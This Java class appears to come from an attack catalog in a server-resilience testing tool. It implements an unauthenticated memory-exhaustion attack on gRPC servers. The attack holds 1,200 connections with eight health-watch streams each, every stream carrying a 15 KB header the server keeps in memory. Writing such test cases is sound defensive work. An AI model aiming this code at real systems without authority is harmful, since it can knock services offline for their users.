package dev.sluice.attacks.catalog;

import dev.sluice.attacks.wire.Frame;
import dev.sluice.attacks.wire.Grpc;
import dev.sluice.attacks.wire.Http2;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.util.List;

/**
 * Watches health on many connections, with headers of 15 KB that gRPC keeps as long as a call is
 * open.
 */
final class LargeWatchHeaders extends Attack {
  private static final int CONNECTIONS = 1_200;

  /** As many health calls as a connection may have open. */
  private static final int STREAMS = 8;

  private static final int VALUE_BYTES = 15_000;
  private static final byte[] HEADERS =
      Grpc.headers(Grpc.HEALTH_WATCH, "", List.of("grpc-accept-encoding", "x".repeat(VALUE_BYTES)));

  LargeWatchHeaders() {
    super("health-large-headers", Family.MEMORY, Access.NO_KEY, Bounds.of(CONNECTIONS, 160, 128));
  }

  @Override
  void prepare(Attempt attempt) throws IOException {
    for (int i = 0; i < CONNECTIONS; i++) {
      watch(attempt.grpc());
    }
  }

  private static void watch(Http2 connection) throws IOException {
    ByteArrayOutputStream calls = new ByteArrayOutputStream();
    for (int i = 0; i < STREAMS; i++) {
      int stream = connection.newStream();
      byte[] request = Grpc.message(new byte[0]);
      calls.writeBytes(new Frame(Frame.HEADERS, Frame.END_HEADERS, stream, HEADERS).encode());
      calls.writeBytes(new Frame(Frame.DATA, Frame.END_STREAM, stream, request).encode());
    }
    connection.send(calls.toByteArray());
  }

  @Override
  void run(Attempt attempt) throws InterruptedException {
    attempt.holdOn();
  }
}
